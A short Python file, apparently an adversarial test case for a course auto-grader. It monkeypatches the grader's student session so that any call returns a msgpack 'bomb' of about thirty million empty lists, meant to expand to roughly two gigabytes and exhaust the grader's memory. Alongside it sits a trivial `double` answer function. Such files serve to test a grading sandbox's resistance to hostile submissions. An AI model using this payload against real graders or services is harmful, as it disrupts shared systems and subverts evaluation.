# A message of thirty million empty lists, which take two gigabytes where they are unpacked.
# stock: nothing (the attack is on the crossing)
# alone
import course.grading.student as crossing

old = crossing.Session._answer
BOMB = b"\xdd" + (30 * 2**20).to_bytes(4, "big") + b"\x90" * (30 * 2**20)
crossing.Session._answer = lambda self, request: old(self, request) if request[0] != "call" else BOMB


def double(x):
    return 2 * x
